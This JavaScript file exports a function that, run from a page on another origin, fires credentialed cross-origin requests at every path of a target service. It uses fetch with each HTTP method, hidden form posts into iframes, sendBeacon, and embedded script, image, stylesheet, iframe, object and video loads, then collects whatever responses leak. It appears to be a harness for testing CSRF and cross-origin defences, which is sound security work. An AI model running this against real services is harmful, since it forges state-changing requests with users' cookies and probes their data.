/**
 * Runs in a page of another origin: sends each request that a page can to each path of a service.
 *
 * @returns what the page could read of the responses
 */
export async function attack(origin, paths) {
  const read = []
  const note = (about, value) => {
    if (value !== null && value !== undefined && value !== '' && value !== 0) read.push(`${about}: ${value}`)
  }
  const settled = (element, start) =>
    new Promise((resolve) => {
      element.addEventListener('load', () => resolve('load'))
      element.addEventListener('loadeddata', () => resolve('load'))
      element.addEventListener('error', () => resolve('error'))
      setTimeout(() => resolve('late'), 3000)
      start()
      document.body.append(element)
    })
  const json = { 'content-type': 'application/json' }
  const attackPath = async (path) => {
    const url = origin + path
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE']) {
      const body = method === 'GET' || method === 'HEAD' ? {} : { body: '{"name":"Eve"}' }
      const requests = [
        { method, credentials: 'include', ...body },
        { method, credentials: 'include', headers: json, ...body },
        { method, credentials: 'include', headers: { 'x-requested-with': 'fetch' }, ...body },
        { method, credentials: 'include', mode: 'no-cors', ...body },
      ]
      for (const request of requests) {
        const text = await fetch(url, request).then(
          (response) => response.text(),
          () => '',
        )
        note(`fetch ${method} ${path}`, text)
      }
      if (method === 'HEAD') continue
      // The other types are never performed as another method.
      const types = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']
      for (const enctype of method === 'POST' ? types : types.slice(0, 1)) {
        const sink = document.createElement('iframe')
        sink.name = `sink-${Math.random()}`
        const form = document.createElement('form')
        const verb = method === 'GET' ? 'get' : 'post'
        Object.assign(form, { action: url, method: verb, enctype, target: sink.name })
        for (const [name, value] of Object.entries({ _method: method, name: 'Eve', _csrf: 'x' })) {
          const field = document.createElement('input')
          Object.assign(field, { name, value })
          if (name !== '_method' || !['GET', 'POST'].includes(method)) form.append(field)
        }
        document.body.append(sink, form)
        const loaded = new Promise((resolve) => {
          sink.addEventListener('load', resolve)
          setTimeout(resolve, 3000)
        })
        form.submit()
        await loaded
        try {
          const { URL, body } = sink.contentDocument ?? {}
          note(`form ${method} ${path}`, URL === 'about:blank' ? '' : body?.innerText)
        } catch {}
        sink.remove()
        form.remove()
      }
    }
    navigator.sendBeacon(url, new URLSearchParams({ name: 'Eve' }))
    const add = async (tag, attribute, look) => {
      const element = Object.assign(document.createElement(tag), tag === 'link' ? { rel: 'stylesheet' } : {})
      const outcome = await settled(element, () => Object.assign(element, { [attribute]: url }))
      note(`${tag} ${path}`, look(element, outcome === 'load'))
      element.remove()
    }
    await Promise.all([
      add('script', 'src', (_script, isLoaded) => (isLoaded ? 'loaded' : '')),
      add('img', 'src', ({ naturalWidth }) => naturalWidth),
      add('link', 'href', ({ sheet }, isLoaded) => (isLoaded ? sheet?.cssRules.length : '')),
      add('iframe', 'src', ({ contentDocument }) => contentDocument?.body?.innerText),
      add('object', 'data', ({ contentDocument }) => contentDocument?.body?.innerText),
      add('video', 'src', ({ videoWidth }) => videoWidth),
    ])
  }
  await Promise.all(paths.map(attackPath))
  return read
}
